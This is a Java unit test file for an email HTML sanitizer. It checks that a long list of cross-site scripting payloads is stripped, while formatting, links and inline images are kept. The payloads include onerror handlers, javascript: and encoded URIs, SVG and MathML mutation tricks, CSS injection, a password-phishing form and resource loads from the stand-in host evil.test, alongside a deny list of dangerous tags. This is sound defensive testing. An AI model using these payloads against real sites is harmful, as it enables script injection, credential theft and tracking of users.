package io.firth.http.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    private static final Set<String> NEVER = Set.of(
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "frame",
            "frameset",
            "object",
            "embed",
            "applet",
            "form",
            "input",
            "button",
            "textarea",
            "select",
            "option",
            "meta",
            "base",
            "link",
            "template",
            "noscript",
            "video",
            "audio",
            "source",
            "picture",
            "marquee",
            "dialog",
            "portal",
            "xml",
            "title",
            "isindex",
            "keygen",
            "bgsound",
            "layer");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.test/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<img src=`javascript:alert(1)`>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img src=\"jav&#x09;ascript:alert(1);\">",
                "<img src=\" &#14;  javascript:alert(1);\">",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<img src=\"data:text/html,<script>alert(1)</script>\">",
                "<img srcset=\"http://evil.test/x 1x\">",
                "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
                "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<a href=\"//evil.test\" onclick=alert(1)>x</a>",
                "<a href=\"https://ok.test\" target=_self ping=https://evil.test>x</a>",
                "<a xlink:href=\"javascript:alert(1)\">x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><img src=x onerror=alert(1)></template>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"//evil.test/x.swf\">",
                "<form action=\"https://evil.test\"><input name=password><button>Go</button></form>",
                "<button formaction=\"javascript:alert(1)\">x</button>",
                "<input autofocus onfocus=alert(1)>",
                "<select autofocus onfocus=alert(1)>",
                "<textarea autofocus onfocus=alert(1)></textarea>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<audio src=x onerror=alert(1)>",
                "<body onload=alert(1) background=\"javascript:alert(1)\">x",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<div style=\"background-image:url(https://evil.test/track.gif)\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<div style=\"behavior:url(#default#time2)\">x</div>",
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">over</div>",
                "<div style=\"position:absolute;margin:-500px\">over</div>",
                "<div style=\"-moz-binding:url(//evil.test/x.xml#a)\">x</div>",
                "<div style=\"color:red;}*{display:none}\">x</div>",
                "<div style=\"@import 'https://evil.test/x.css'\">x</div>",
                "<div style=\"font-family:'a;background:url(//evil.test)'\">x</div>",
                "<div style=\"content:attr(x)\">x</div>",
                "<style>@import url(https://evil.test/x.css); body{display:none}</style>",
                "<link rel=stylesheet href=\"https://evil.test/x.css\">",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<base href=\"javascript:alert(1)//\">",
                "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x</table>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<details open ontoggle=alert(1)>x</details>",
                "<dialog open>x</dialog>",
                "<x onclick=alert(1)>x</x>",
                "<div id=a name=b class=c is=d contenteditable accesskey=x tabindex=1>x</div>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!-- --!><img src=x onerror=alert(1)> -->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                "<<script>alert(1)//<</script>",
                "<img src=x:x onerror\n=alert(1)>",
                "<p/onmouseover=alert(1)>x",
                "<a href=\"http://x\"onmouseover=\"alert(1)\">x</a>",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<title><img src=x onerror=alert(1)></title>",
                "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
                "<plaintext><script>alert(1)</script>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<a href='mailto:a@b.test?subject=\"><script>alert(1)</script>'>x</a>",
                "<img alt=\"<x\" title='\"><script>alert(1)</script>' src=cid:a>",
                "<font color='\"><script>alert(1)</script>'>x</font>",
            })
    void nothingThatRunsLoadsOverlaysOrSendsSurvives(String hostile) {
        // When
        var clean = SafeHtml.clean("before " + hostile + " after");

        // Then
        for (Element element : Jsoup.parseBodyFragment(clean).body().getAllElements()) {
            assertThat(NEVER).doesNotContain(element.normalName());
            for (Attribute attribute : element.attributes()) {
                assertHarmless(attribute);
            }
        }
        assertThat(Jsoup.parseBodyFragment(clean).text()).startsWith("before");
    }

    private static void assertHarmless(Attribute attribute) {
        var name = attribute.getKey().toLowerCase(Locale.ROOT);
        var value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
        assertThat(name).doesNotStartWith("on");
        assertThat(name)
                .isNotIn("id", "class", "name", "srcset", "background", "srcdoc", "action", "formaction", "ping", "is");
        if (name.equals("href")) {
            assertThat(value).matches("(https?:|mailto:).*");
        }
        if (name.equals("src")) {
            assertThat(value).matches("(cid:|data:image/(png|jpe?g|gif|webp);base64,).*");
        }
        if (name.equals("style")) {
            assertThat(value)
                    .doesNotContain(
                            "url(", "position", "expression", "import", "behavior", "binding", "z-index", "-500");
        }
    }

    @Test
    void formattingTablesAndLinksStay() {
        // When
        var clean = SafeHtml.clean(
                "<table width=\"600\"><tr><td style=\"color:#f00;padding:4px\"><b>A</b> <a href=\"https://ok.test/?a=1&b=2\">b</a>");

        // Then
        assertThat(clean)
                .contains("<table width=\"600\">", "color:#f00", "<b>A</b>", "href=\"https://ok.test/?a=1&amp;b=2\"")
                .contains("target=\"_blank\"", "rel=\"noopener noreferrer\"");
    }

    @Test
    void picturesOfTheMailStayAndThoseFromElsewhereWaitToBeAskedFor() {
        // When
        var clean = SafeHtml.clean(
                "<img src=\"cid:one%40acme.test\"><img src=\"https://t.test/p.gif?u=1\" width=1>"
                        + "<img src=\"//t.test/q.gif\"><img src=\"HTTP://t.test/r.gif\"><img src=\"data:image/png;base64,iVBORw==\">");

        // Then
        assertThat(clean)
                .contains("src=\"cid:one@acme.test\"")
                .contains("data-remote-src=\"https://t.test/p.gif?u=1\"")
                .contains("data-remote-src=\"https://t.test/q.gif\"")
                .contains("data-remote-src=\"http://t.test/r.gif\"")
                .contains("src=\"data:image/png;base64,iVBORw==\"")
                .doesNotContain(" src=\"http");
    }

    @Test
    void aDeepNestIsNoDanger() {
        // When
        var clean = SafeHtml.clean("<div>".repeat(50_000) + "deep" + "</div>".repeat(50_000));

        // Then
        assertThat(clean).contains("deep");
    }

    @Test
    void theShortFormOfABackgroundKeepsItsColourAndLosesItsPicture() {
        // Given
        var html = "<p style=\"background:#1b4332 url(https://evil.test/seen.gif)\">x</p>";

        // When
        var clean = SafeHtml.clean(html);

        // Then
        assertThat(clean)
                .contains("background:#1b4332")
                .doesNotContain("evil.test")
                .doesNotContain("url(");
    }
}
